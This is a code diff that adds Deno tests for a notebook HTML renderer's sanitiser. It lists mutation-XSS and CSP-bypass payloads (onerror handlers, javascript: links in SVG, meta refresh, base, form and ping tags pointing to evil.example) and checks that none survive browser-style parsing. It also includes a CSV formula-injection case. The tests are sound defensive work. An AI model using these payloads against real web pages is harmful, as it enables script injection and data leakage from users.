@@ -7,6 +7,8 @@
 import assert from "node:assert/strict";
 import { parse } from "csv-parse/sync";
 import { DOMParser } from "linkedom";
+import { parse as parse5 } from "parse5";
+import { renderNotebook } from "../scripts/runner/html.ts";
 import { csvTable, markdownHtml, showTable } from "../lib/display.ts";
 import { loadCaseSeries } from "../lib/load.ts";
 import { isSafeLink, markdownText } from "../lib/markdown.ts";
@@ -148,4 +150,105 @@ Deno.test("csvTable: a number written out as text is a number, not a formula to 
     csvTable([{ c: "-2" }, { c: "[-4, -3]" }, { c: "-2+cmd" }, { c: "-2.50" }]),
     "c\n-2\n\"[-4, -3]\"\n'-2+cmd\n'-2.50\n",
   );
+});
+
+/**
+ * HTML a notebook's output may carry that a parser other than the browser's could read otherwise
+ * (mutation XSS), or that a Content-Security-Policy does not stop (a refresh, a base, a form).
+ */
+const PARSER_TRICKS = [
+  "<!--a--!><img src=x onerror=alert(1)><meta http-equiv=refresh content='0;url=https://evil.example/'>-->",
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+  "<svg><style><img src=x onerror=alert(1)></style></svg>",
+  '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
+  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
+  '<svg><image href="https://evil.example/x.png"/><use href="https://evil.example/x.svg#a"/></svg>',
+  '<video poster="https://evil.example/p.png"></video><table background="https://evil.example/b.png"></table>',
+  '<style>body{background:url(https://evil.example/x)}</style><p style="background:url(//evil.example/y)">p</p>',
+  '<base href="https://evil.example/"><a href="x">relative</a>',
+  '<form action="https://evil.example"><input name="q"><button>go</button></form>',
+  '<img srcset="https://evil.example/x.png 1x" src="data:image/png;base64,AA==">',
+  '<a href="https://ok.example" ping="https://evil.example/ping">ok</a>',
+  "<template><img src=x onerror=alert(1)></template><xmp><img src=x onerror=1></xmp>",
+];
+
+/** Every element of a page's body as a browser parses it (parse5 follows the HTML standard). */
+function browserElements(page: string) {
+  const out: { tag: string; attrs: Record<string, string> }[] = [];
+  let comments = 0;
+  // deno-lint-ignore no-explicit-any
+  const walk = (node: any) => {
+    if (node.nodeName === "#comment") comments++;
+    if (node.tagName) {
+      out.push({
+        tag: node.tagName,
+        attrs: Object.fromEntries(node.attrs.map((a: Attribute) => [a.name, a.value])),
+      });
+    }
+    for (const c of node.childNodes ?? []) walk(c);
+    if (node.content) walk(node.content);
+  };
+  walk(parse5(page));
+  return { elements: out, comments };
+}
+type Attribute = { name: string; value: string };
+
+/** What none of these payloads may leave in a page's body, as a browser parses it. */
+const LIVE_TAGS = new Set([
+  "base",
+  "form",
+  "iframe",
+  "input",
+  "math",
+  "meta",
+  "noscript",
+  "script",
+  "style",
+  "svg",
+  "template",
+  "video",
+  "xmp",
+]);
+
+/**
+ * Whether an attribute is inert: no event, style or fetching attribute, images embedded, links
+ * http(s) or relative.
+ */
+function inertAttribute(name: string, value: string): boolean {
+  if (name === "src") return /^data:image\//.test(value);
+  if (/^on|^(style|srcset|poster|background|ping|action|formaction)$/i.test(name)) return false;
+  return name !== "href" || /^https?:\/\//.test(value) ||
+    !/^([a-z][a-z0-9+.-]*:|\/\/)/i.test(value);
+}
+
+Deno.test("an HTML page parsed as a browser parses it: no element, attribute or URL the sanitiser removes survives a parser trick", () => {
+  for (const payload of PARSER_TRICKS) {
+    const page = renderNotebook({
+      cells: [{
+        cell_type: "code",
+        source: "1",
+        metadata: {},
+        execution_count: 1,
+        outputs: [{
+          output_type: "display_data",
+          metadata: {},
+          data: { "text/html": payload, "text/plain": "x" },
+        }],
+      }],
+      metadata: {},
+      nbformat: 4,
+      nbformat_minor: 5,
+    }, "t");
+    const { elements, comments } = browserElements(page);
+    assert.equal(comments, 0, `${payload}: no comment`);
+    const body = elements.slice(elements.findIndex((e) => e.tag === "body"));
+    assert.ok(body.length > 1, "the page has a body");
+    for (const { tag, attrs } of body) {
+      assert.ok(!LIVE_TAGS.has(tag), `${payload}: <${tag}> in the body`);
+      for (const [name, value] of Object.entries(attrs)) {
+        assert.ok(inertAttribute(name, value), `${payload}: <${tag} ${name}="${value}">`);
+      }
+    }
+  }
 });
